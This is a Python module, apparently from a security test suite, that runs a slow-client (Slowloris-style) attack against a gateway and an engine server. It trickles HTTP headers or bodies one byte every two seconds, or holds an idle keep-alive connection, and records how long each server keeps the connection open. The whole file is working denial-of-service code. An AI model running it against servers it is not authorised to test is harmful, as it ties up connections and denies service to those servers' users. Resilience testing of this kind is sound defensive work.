"""Attack 5a: slow clients (head and body at 1 byte / 2 s, an idle keep-alive connection) to
both servers: how long each keeps the connection open."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import re
import time
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

from scripts.attacks.context import Ctx
from scripts.attacks.raw_http import ATTACKER_ADDRESS, CHAT


def slow_bytes(kind: str, host: str) -> tuple[bytes, Iterator[bytes]]:
    """What a slow client sends at once, and then one byte at a time."""
    if kind == "header":
        head = f"POST {CHAT} HTTP/1.1\r\nHost: {host}\r\nX-Slow: ".encode()
        return b"", itertools.chain(
            (head[i : i + 1] for i in range(len(head))), itertools.repeat(b"a")
        )
    if kind == "body":
        head = f"POST {CHAT} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
        head += "Content-Length: 1000\r\n\r\n"
        return head.encode(), itertools.repeat(b" ")
    return f"GET /health HTTP/1.1\r\nHost: {host}\r\n\r\n".encode(), iter(())


async def slow_client(base: str, kind: str, cap: float, interval: float = 2.0) -> dict[str, Any]:
    """How long the server keeps a slow client's connection open (up to ``cap``)."""
    parts = urlsplit(base)
    t0 = time.monotonic()
    reader, writer = await asyncio.open_connection(
        parts.hostname, parts.port, local_addr=(ATTACKER_ADDRESS, 0)
    )
    first, trickle = slow_bytes(kind, parts.netloc)
    received: list[bytes] = []

    async def read_all() -> None:
        with contextlib.suppress(OSError):
            while chunk := await reader.read(65536):
                received.append(chunk)

    reading = asyncio.create_task(read_all())
    write_error = None
    try:
        writer.write(first)
        while not reading.done() and time.monotonic() - t0 < cap:
            if kind != "idle":
                writer.write(next(trickle))
                await writer.drain()
            remaining = cap - (time.monotonic() - t0)
            await asyncio.wait({reading}, timeout=max(0.0, min(interval, remaining)))
    except OSError as exc:
        write_error = type(exc).__name__
    open_s = time.monotonic() - t0
    closed = reading.done() or write_error is not None
    reading.cancel()
    writer.close()
    statuses = [int(s) for s in re.findall(rb"HTTP/1\.[01] (\d{3})", b"".join(received))]
    return {"open_s": round(open_s, 1), "closed_by_server": closed, "statuses": statuses}


async def slow_clients(ctx: Ctx) -> dict[str, Any]:
    cap = ctx.args.slow_cap_s
    targets = {"gateway": ctx.fleet.url, "engine": ctx.fleet.engine_url}
    keys = [(t, k) for t in targets for k in ("header", "body", "idle")]
    results = await asyncio.gather(
        *(slow_client(targets[t], k, cap) for t, k in keys), return_exceptions=True
    )
    out: dict[str, Any] = {"cap_s": cap}
    figures: dict[str, Any] = {}
    for (target, kind), result in zip(keys, results, strict=True):
        name = f"{target}_{kind}"
        if isinstance(result, BaseException):
            out[name] = {"error": repr(result)}
            continue
        out[name] = result
        figures[f"{name}_open_s"] = result["open_s"]
        if not result["closed_by_server"]:
            figures[f"{name}_open_s"] = f">= {cap:g}"
    return {**out, "figures": figures}
